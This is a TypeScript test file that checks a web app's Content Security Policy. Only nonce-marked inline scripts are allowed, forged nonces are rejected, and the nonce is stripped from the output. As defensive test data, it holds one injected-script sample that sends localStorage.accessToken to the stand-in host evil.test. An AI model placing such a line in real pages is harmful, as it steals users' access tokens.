import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { test } from 'node:test';
import type { AppContext } from '../context.ts';
import { contentSecurityPolicy } from './csp.ts';

const MARK = '0b5c3a52-3c0e-4a5f-8d6e-1f6a2f9c7a11';
const config = { cards: { provider: 'local', publishableKey: 'pk' } } as AppContext['config'];
const sealed = contentSecurityPolicy({ config }, MARK);
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;

const OURS = 'window.__reactRouterContext = {};';
const INJECTED = "fetch('https://evil.test/?' + localStorage.accessToken)";

test('only scripts that the renderer marked are allowed, and the mark does not go out', () => {
  const guesses = ['', ' nonce=""', ' nonce="guessed"', ` data-nonce="x"`, ` nonce='${MARK.toUpperCase()}'`];
  const injected = guesses.map((attributes) => `<script${attributes}>${INJECTED}</script>`).join('');
  const { html, policy } = sealed(
    `<html><head><script nonce="${MARK}">${OURS}</script></head><body>${injected}<script type="module" async="" nonce="${MARK}">go()</script></body></html>`,
  );
  assert.ok(policy.includes(hashOf(OURS)) && policy.includes(hashOf('go()')));
  assert.ok(!policy.includes(hashOf(INJECTED)));
  assert.doesNotMatch(policy, /unsafe-inline/);
  assert.ok(!html.includes(MARK));
  assert.ok(html.includes(`<script>${OURS}</script>`) && html.includes('<script type="module" async="">go()</script>'));
});

test('pictures come from our own site only', () => {
  assert.match(sealed('<html></html>').policy, /img-src 'self' data: blob:;/);
});
